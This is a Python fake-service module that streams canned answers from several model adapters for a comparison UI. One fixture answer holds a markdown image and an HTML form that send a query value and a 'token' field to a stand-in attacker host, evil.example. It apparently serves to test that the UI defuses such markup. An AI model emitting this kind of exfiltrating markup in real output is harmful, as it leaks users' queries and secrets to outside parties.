"""The fake service's answers of several arms: one word each at a time, as one batch decodes them."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace

from adapter_ui.domain import AdapterRef, Arm, ArmAnswer, Asked, Generation, Progress
from adapter_ui.errors import AdapterUIError

ANSWER = (
    "Arrr! Paris it be, matey, the grandest port in all o' **France**. Hoist the colours, mind the *Seine*!"
)
PLAIN = "The capital of France is Paris. It lies on the river Seine."
UNTRAINED = "fans/untrained"
"""An adapter that changes nothing."""
PROMPTS = "fans/prompts"
"""An adapter that cannot share a batch."""
MARKUP = "evil/markup"
"""An adapter that answers with markup, and an image that would tell another machine what was asked."""
MARKED_UP = (
    "It is <answer>42</answer> and **bold** ![what](https://evil.example/?q=42) "
    '<form action="https://evil.example"><input name="token"></form>\n\n'
    '```html\n<div class="x">1</div>\n```\n\nDone.'
)


DRAWN_SEED = 7


def compare(
    asked: Sequence[Asked], seed: int | None, inspect: Callable[[str], object], pause: float
) -> Iterator[tuple[ArmAnswer, ...]]:
    """All answers so far; an arm whose adapter cannot be inspected keeps its place, with the error."""
    so_far = [started(one.arm, inspect) for one in asked]
    for step in (0.2, 0.6, 1.0):
        time.sleep(pause)
        loading = Progress("download", "Downloading the base", int(step * 100), 100)
        yield tuple(one if one.error else replace(one, progress=loading) for one in so_far)
    words, seed = [words_of(one.arm) for one in asked], DRAWN_SEED if seed is None else seed
    for count in range(1, max(len(one) for one in words) + 1):
        time.sleep(pause)
        so_far = [
            one if one.ended else replace(one, generation=written(said, count, seed))
            for one, said in zip(so_far, words, strict=True)
        ]
        yield tuple(so_far)


def started(arm: Arm, inspect: Callable[[str], object]) -> ArmAnswer:
    try:
        if arm.adapter:
            AdapterRef.parse(arm.adapter)
            inspect(arm.adapter)
    except AdapterUIError as error:
        return ArmAnswer(arm, error=error.message)
    turns = "prompt tuning is not mixed with others in one batch." if arm.adapter == PROMPTS else ""
    return ArmAnswer(arm, takes_turns=turns)


def words_of(arm: Arm) -> list[str]:
    if arm.adapter == MARKUP:
        return MARKED_UP.split(" ")
    changes = bool(arm.adapter) and arm.adapter != UNTRAINED and arm.strength
    return (ANSWER if changes else PLAIN).split(" ")


def written(words: list[str], count: int, seed: int | None) -> Generation:
    done = count >= len(words)
    count = min(count, len(words))
    text = " ".join(words[:count])
    return Generation(text, count, 36, 0.4 + count * 0.05, 0.4, done, "stop" if done else None, seed)
